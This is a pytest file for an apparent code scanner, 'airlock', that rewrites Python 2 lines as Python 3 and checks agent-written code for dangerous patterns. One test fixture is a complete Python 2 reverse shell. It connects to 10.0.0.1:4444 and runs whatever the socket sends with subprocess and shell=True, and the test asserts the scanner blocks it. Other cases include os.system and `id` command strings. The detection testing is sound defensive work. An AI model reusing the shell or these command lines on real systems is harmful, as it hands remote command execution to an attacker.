"""Python 2 statements read as the Python 3 they mean, so salvage keeps them."""

from __future__ import annotations

import ast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airlock.analyzer.py2 import rewrite, rewrite_all
from airlock.analyzer.scan import scan

CASES = [
    ('print "hello"\n', 'print("hello")\n'),
    ('print "a", b,\n', 'print("a", b)\n'),
    ('print >>sys.stderr, "oops" % (a,  # note\n', None),
    ('print "a"  # note\n', 'print("a")  # note\n'),
    ("except socket.error, e:\n", "except socket.error as e:\n"),
    ("except (IOError, OSError), err:\n", "except (IOError, OSError) as err:\n"),
    ('raise ValueError, "bad"\n', 'raise ValueError("bad")\n'),
    ("exec code in ns\n", "exec(code, ns)\n"),
    ("exec payload\n", "exec(payload)\n"),
    ("x = `y`\n", "x = repr(y)\n"),
    ("os.chmod(p, 0755)\n", "os.chmod(p, 0o755)\n"),
    ("n = 10L\n", "n = 10\n"),
    ("if a <> b:\n", "if a != b:\n"),
]


@pytest.mark.parametrize(("line", "want"), CASES)
def test_rewrites(line: str, want: str | None) -> None:
    assert rewrite(line) == want
    if want is None:
        return  # a rewrite that would not be Python 3 is dropped
    code = want.strip()
    if code.endswith(":"):
        code += " pass"
    if code.startswith("except"):
        code = "try:\n    pass\n" + code
    ast.parse(code)  # the rewrite is Python 3


@pytest.mark.parametrize(
    "line",
    [
        "print(x)\n",
        "print (x)\n",
        "printer = 1\n",
        "x = 0.75\n",
        "except (A, B):\n",
        "y = 1.05\n",
        "    print\n",  # a bare name: valid Python 3, whatever it meant
        'print >>sys.stderr, "oops"\n',  # parses as a tuple in Python 3
        "print ; os.system(cmd)\n",
        "except OSError: os.system(cmd); f = lambda a, b: 0\n",
        'cmd = "echo `id`"\n',
        "print x" + " " * 5000 + "y\n",
    ],
)
def test_python3_lines_are_left_alone(line: str) -> None:
    """Valid statements, and lines too long to read cheaply, are never rewritten: a
    rewrite must not turn code salvage would keep into a line it takes out."""
    assert rewrite(line) is None


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="print exc,`<>0L7:()\"'#\n\tab", max_size=200))
def test_rewriting_keeps_every_line_where_it_was(text: str) -> None:
    out = rewrite_all(text)
    if out is not None:
        assert out.count("\n") == text.count("\n")


PY2_SHELL = (
    "import socket, subprocess\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
    "try:\n"
    "    s.connect(('10.0.0.1', 4444))\n"
    "except socket.error, e:\n"
    '    print "failed", e\n'
    "while True:\n"
    "    data = s.recv(1024)\n"
    '    print "got %s" % data\n'
    "    p = subprocess.Popen(data, shell=True, stdout=subprocess.PIPE)\n"
    "    s.send(p.stdout.read())\n"
)


def test_a_python2_reverse_shell_is_read_whole() -> None:
    """The parse error is still reported; the shell fed from the socket is found beside it
    (negative control: with its Python 2 lines taken out as salvage would, it is not)."""
    rules = {f.rule_id for f in scan(PY2_SHELL).findings}
    assert {"AIR-PARSE-001", "AIR-PROC-008"} <= rules
    assert scan(PY2_SHELL).verdict.value == "block"
    gutted = PY2_SHELL.replace("    s.connect(('10.0.0.1', 4444))\n", "    pass\n").replace(
        "    data = s.recv(1024)\n", "    data = 'ls'\n"
    )
    assert "AIR-PROC-008" not in {f.rule_id for f in scan(gutted).findings}


def test_a_python3_statement_beside_python2_lines_keeps_its_findings() -> None:
    """Negative control for the rewrite: a line that is valid Python 3 (`print ; …`) in a
    file that fails to parse is not rewritten into one salvage would take out."""
    source = 'import os\nprint "hi"\nprint ; os.system(cmd)\n'
    rules = {f.rule_id for f in scan(source).findings}
    assert {"AIR-PARSE-001", "AIR-PROC-001"} <= rules


def test_the_compile_check_warns_nobody() -> None:
    """`print "a" is 1` compiles with a SyntaxWarning; the scan's own check must not print
    it on the user's terminal (warnings turned into errors here would show it)."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert rewrite('print "a" is 1\n') == 'print("a" is 1)\n'


def test_findings_show_the_line_as_written() -> None:
    """The reviewer reads the agent's own line, not the Python 3 rewrite it was analysed as
    (negative control: the rewrite itself is what the rules saw)."""
    source = 'import os\nprint "go"\nprint os.system("id")\n'
    (finding,) = [f for f in scan(source).findings if f.rule_id == "AIR-PROC-001"]
    assert finding.line == 3 and finding.source_line == 'print os.system("id")'
    assert rewrite('print os.system("id")\n') == 'print(os.system("id"))\n'
